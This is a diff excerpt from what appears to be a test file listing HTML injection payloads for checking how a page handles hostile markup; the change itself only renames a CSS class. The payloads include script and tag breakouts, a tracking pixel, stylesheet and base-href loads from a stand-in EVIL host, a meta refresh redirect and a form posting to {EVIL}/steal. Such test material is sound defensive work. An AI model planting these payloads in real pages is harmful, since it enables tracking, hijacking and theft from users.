@@ -23,7 +23,7 @@ SHOWN = {
     "breaks-script": "</script><script>window.pwned=1</script>",
     "breaks-title": "</title></style></textarea></noscript><iframe srcdoc='<script>top.pwned=1</script>'>",
     "pixel": f"<img src={EVIL}/pixel.gif width=1 height=1>",
-    "style": f"<style>body{{background:url({EVIL}/css)}} .told{{display:none}}</style>",
+    "style": f"<style>body{{background:url({EVIL}/css)}} .flash{{display:none}}</style>",
     "link": f"<link rel=stylesheet href={EVIL}/a.css><base href={EVIL}/>",
     "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/">',
     "form": f"<form action={EVIL}/steal><button>Release</button></form>",
